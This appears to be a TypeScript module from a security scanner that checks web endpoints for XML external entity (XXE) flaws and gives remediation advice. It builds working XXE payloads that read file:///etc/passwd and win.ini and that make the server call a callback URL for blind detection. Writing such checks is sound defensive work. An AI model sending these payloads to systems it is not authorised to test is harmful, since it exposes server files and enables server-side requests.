import type {
  ActiveCheck,
  ActiveContext,
  DastIssue,
  DastRequest,
  DastRule,
  Endpoint,
  Exchange,
} from '../../types.js';
import { createProbe, type Probe } from './checks-b-support.js';
import { CALLBACK_WAIT_MS } from './ssrf.js';

/** The XML external entity rule. */
export const XXE_RULE: DastRule = {
  id: 'dast/xxe',
  title: 'XML external entities: the XML parser loads files or URLs named in a document',
  severity: 'high',
  cwe: ['CWE-611'],
  owasp: 'A05:2021',
  remediation: [
    'Turn off DTD processing, or at least external entities and external DTDs, in the XML',
    'parser used for request bodies. Examples: libxml2 without `XML_PARSE_NOENT` /',
    '`XML_PARSE_DTDLOAD` (lxml: `resolve_entities=False, no_network=True`), Java',
    '`factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true)`,',
    '.NET `DtdProcessing.Prohibit`, Python `defusedxml`. Prefer JSON where XML is not needed.',
  ].join('\n'),
  references: [
    'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
    'https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing',
    'https://cwe.mitre.org/data/definitions/611.html',
  ],
};

const XML_TYPE = /^(?:application|text)\/(?:[\w.+-]+\+)?xml$/;

/** In-band payloads: the entity's content shows up in the response. */
const FILES = [
  { uri: 'file:///etc/passwd', signature: /root:[x*!]?:0:0:[^\n<]*/ },
  { uri: 'file:///c:/windows/win.ini', signature: /\[(?:fonts|extensions|mci extensions)\]/i },
] as const;

/**
 * Whether the endpoint takes XML: declared as such, sent with an XML content type, or a
 * POST-like endpoint whose unmodified response is XML (then it often parses XML too). GET
 * endpoints are only tested when declared as XML: they rarely read a body.
 */
async function takesXml(endpoint: Endpoint, ctx: ActiveContext, probe: Probe): Promise<boolean> {
  if (endpoint.bodyType === 'xml') return true;
  const sent = ctx.original(endpoint).headers?.['content-type'] ?? '';
  if (XML_TYPE.test(sent.split(';')[0]?.trim().toLowerCase() ?? '')) return true;
  const method = endpoint.method.toUpperCase();
  if (method === 'GET' || method === 'HEAD' || endpoint.bodyType === 'multipart') return false;
  const baseline = await probe.baseline();
  if (!baseline) return false;
  return (
    XML_TYPE.test(baseline.response.contentType) || /^\s*<\?xml\b/.test(baseline.response.body)
  );
}

const XML_DECL = /^\uFEFF?\s*(<\?xml\b[^>]*\?>)?/;
const DOCTYPE = /<!DOCTYPE\b[^>[]*(?:\[[\s\S]*?\]\s*)?>/i;
const TEXT_ELEMENT = /(<([A-Za-z_][\w:.-]*)(?:\s[^>]*)?>)(\s*[^<\s][^<]*)(<\/\2\s*>)/;
const EMPTY_ELEMENT = /(<([A-Za-z_][\w:.-]*)(?:\s[^>]*)?>)(\s*)(<\/\2\s*>)/;

/**
 * `rawBody` (or a minimal document) with `subset` as its internal DTD and `reference`
 * in place of the first text node, so the entity's content lands where the application
 * most likely echoes a value.
 * @example xxeDocument('<a><b>x</b></a>', '<!ENTITY e SYSTEM "file:///etc/passwd">', '&e;') // '<!DOCTYPE a [...]><a><b>&e;</b></a>'
 */
export function xxeDocument(
  rawBody: string | undefined,
  subset: string,
  reference: string,
): string {
  if (rawBody === undefined || !/<[A-Za-z_]/.test(rawBody)) {
    return `<?xml version="1.0"?>\n<!DOCTYPE r [${subset}]>\n<r>${reference}</r>`;
  }
  const decl = XML_DECL.exec(rawBody)?.[1] ?? '';
  let rest = rawBody.replace(XML_DECL, '').replace(DOCTYPE, '');
  const root = /<([A-Za-z_][\w:.-]*)/.exec(rest)?.[1] ?? 'r';
  if (reference !== '') {
    if (TEXT_ELEMENT.test(rest)) {
      rest = rest.replace(
        TEXT_ELEMENT,
        (_m, open: string, _n, _t, close: string) => `${open}${reference}${close}`,
      );
    } else if (EMPTY_ELEMENT.test(rest)) {
      rest = rest.replace(
        EMPTY_ELEMENT,
        (_m, open: string, _n, _t, close: string) => `${open}${reference}${close}`,
      );
    } else {
      const selfClosing = new RegExp(`<${root}((?:\\s[^>]*?)?)\\s*/>`);
      const closing = new RegExp(`</${root}\\s*>(?![\\s\\S]*</${root}\\s*>)`);
      if (closing.test(rest)) rest = rest.replace(closing, (m) => `${reference}${m}`);
      else
        rest = rest.replace(
          selfClosing,
          (_m, attrs: string) => `<${root}${attrs}>${reference}</${root}>`,
        );
    }
  }
  return `${decl}${decl ? '\n' : ''}<!DOCTYPE ${root} [${subset}]>\n${rest.trimStart()}`;
}

function xmlRequest(ctx: ActiveContext, endpoint: Endpoint, body: string): DastRequest {
  const original = ctx.original(endpoint);
  return {
    ...original,
    headers: { ...original.headers, 'content-type': 'application/xml' },
    body,
  };
}

function issue(
  endpoint: Endpoint,
  payload: string,
  exchange: Exchange | undefined,
  message: string,
  details: Record<string, string>,
  proof?: string,
): DastIssue {
  return {
    ruleId: XXE_RULE.id,
    message,
    confidence: 'high',
    method: endpoint.method,
    url: endpoint.url,
    payload,
    ...(exchange ? { exchange } : {}),
    ...(proof !== undefined ? { proof } : {}),
    details: { location: 'body', ...details },
  };
}

/**
 * Sends the endpoint's XML body (or a minimal document) with an internal DTD declaring an
 * external entity: `file:///etc/passwd` and `win.ini` in-band (reported when the file's
 * content appears and the unmodified response does not show it), and, with the callback
 * listener, a general and a parameter entity on the listener (reported when it is
 * fetched: blind XXE). Applies to XML endpoints only (see {@link takesXml}); one finding per
 * endpoint.
 */
export const xxeCheck: ActiveCheck = {
  id: 'xxe',
  rules: [XXE_RULE],
  async *run(endpoint: Endpoint, ctx) {
    const probe = createProbe(endpoint, ctx);
    if (!(await takesXml(endpoint, ctx, probe))) return;
    for (const file of FILES) {
      if (probe.stopped) return;
      const payload = xxeDocument(endpoint.rawBody, `<!ENTITY rmp SYSTEM "${file.uri}">`, '&rmp;');
      const exchange = await probe.send(xmlRequest(ctx, endpoint, payload));
      const proof = exchange ? file.signature.exec(exchange.response.body)?.[0] : undefined;
      if (!exchange || proof === undefined) continue;
      const baseline = await probe.baseline();
      if (baseline && file.signature.test(baseline.response.body)) continue;
      yield issue(
        endpoint,
        payload,
        exchange,
        `The XML parser expands external entities: the response to a document referencing ${file.uri} contains that file.`,
        { method: 'in-band file read', systemId: file.uri },
        proof,
      );
      return;
    }
    const callback = ctx.callback;
    if (!callback) return;
    const outOfBand = [
      {
        kind: 'general entity',
        subset: (url: string) => `<!ENTITY rmp SYSTEM "${url}">`,
        ref: '&rmp;',
      },
      {
        kind: 'parameter entity',
        subset: (url: string) => `<!ENTITY % rmpp SYSTEM "${url}"> %rmpp;`,
        ref: '',
      },
    ];
    for (const oob of outOfBand) {
      if (probe.stopped) return;
      const token = ctx.marker();
      const url = callback.urlFor(token);
      const payload = xxeDocument(endpoint.rawBody, oob.subset(url), oob.ref);
      const exchange = await probe.send(xmlRequest(ctx, endpoint, payload));
      if (!(await callback.received(token, CALLBACK_WAIT_MS))) continue;
      yield issue(
        endpoint,
        payload,
        exchange,
        `The XML parser loads external entities: a document whose ${oob.kind} names ${url} made the server request it.`,
        { method: `out-of-band ${oob.kind}`, systemId: url, token },
      );
      return;
    }
  },
};
